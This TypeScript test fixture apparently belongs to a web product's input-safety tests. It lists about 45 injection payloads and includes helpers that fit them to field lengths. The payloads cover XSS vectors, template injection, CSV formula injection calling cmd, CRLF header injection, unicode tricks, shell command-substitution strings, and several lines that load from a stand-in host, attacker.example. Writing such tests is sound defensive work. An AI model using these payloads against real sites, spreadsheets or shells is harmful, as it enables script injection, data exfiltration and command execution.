import { isOneLine } from '@revive/contracts/rules';

/** What a payload calls when it runs, and where it would call home: both are watched for. */
const HIT = 'window.__ran=1';
export const ELSEWHERE = 'attacker.example';
const HOME = `//${ELSEWHERE}/x`;

/**
 * Forty texts and more made to be taken for more than text, each short enough for the shortest field that shows it;
 * longer fields get them whole.
 */
export const PAYLOADS: readonly string[] = [
  `<script>${HIT}</script>`,
  `"><script>${HIT}</script>`,
  `</script><script>${HIT}</script>`,
  `<img src=x onerror=${HIT}>`,
  `"><img src=x onerror="${HIT}">`,
  `<svg onload=${HIT}>`,
  `<svg><script>${HIT}</script></svg>`,
  `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
  `<body onload=${HIT}>`,
  `<details open ontoggle=${HIT}>`,
  `<input autofocus onfocus=${HIT}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`,
  `<iframe src="javascript:parent.__ran=1">`,
  `<object data="javascript:${HIT}">`,
  `<a href="javascript:${HIT}">click</a>`,
  `javascript:${HIT}`,
  `<base href="${HOME}">`,
  `<meta http-equiv="refresh" content="0;url=${HOME}">`,
  `<link rel=stylesheet href="${HOME}">`,
  `<form action="${HOME}"><button>Send</button></form>`,
  `<style>*{background:url(${HOME})}</style>`,
  `' onmouseover='${HIT}`,
  '{{constructor.constructor("window.__ran=1")()}}',
  `\${${HIT}}`,
  `#{${HIT}}`,
  `<%= ${HIT} %>`,
  `data:text/html,<script>${HIT}</script>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${HIT}>`,
  '\u202egnp.exe\u202d \u2066hidden\u2069',
  '\u0000nul\u0000',
  '👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿'.repeat(6),
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L'.repeat(4),
  `=cmd|' /C calc'!A0`,
  '@SUM(1+9)*cmd',
  '\u001b[31mred\u001b[0m\u0007',
  `[click](javascript:${HIT})`,
  '![x](//attacker.example/x.png)',
  'W'.repeat(300),
  'unbroken-'.repeat(60),
  '\r\n\r\nSet-Cookie: a=b\r\n',
  // What is text already and must not be read a second time: shown, printed and mailed as it was typed, to the sign.
  `&lt;img src=x onerror=${HIT}&gt;`,
  'a&b;c%d "e" \'f\' ^| && %PATH% !x!',
  'Tom &amp; Jerry &#60;b&#62; &copy;',
  '%3Cscript%3E%s%n%00',
  '`id`;$(id)&id|id>x',
  `&#x3c;script>${HIT}&#x3c;/script>`,
];

/** These a page has to show as they are: nothing of them is a space, a line's end or a sign without a picture. */
export const SHOWN_AS_TYPED: readonly string[] = PAYLOADS.filter((payload) => payload.includes('&'));

/** Within a field's length, as the product itself would have to cut it; half of a pair of code units never stays. */
export const within = (payload: string, max: number): string =>
  Array.from(payload)
    .slice(0, max)
    .join('')
    .slice(0, max)
    .replace(/[\ud800-\udbff]$/, '');
/** Without the signs that every entrance refuses in one line: no person and no agent gets further with them. */
export const asOneLine = (payload: string): string => Array.from(payload).filter(isOneLine).join('');

/**
 * A payload as a field takes it: without what every field refuses, no longer than it may be, no shorter than it must
 * be.
 */
export const fitted = (payload: string, most: number, least = 1): string => {
  const text = within(asOneLine(payload).trim(), most).trim();
  return text.length >= least ? text : within(`${text}${'x'.repeat(least)}`, Math.max(most, least));
};

/** As a finding names it. */
export const shown = (payload: string): string => JSON.stringify(payload.slice(0, 40));
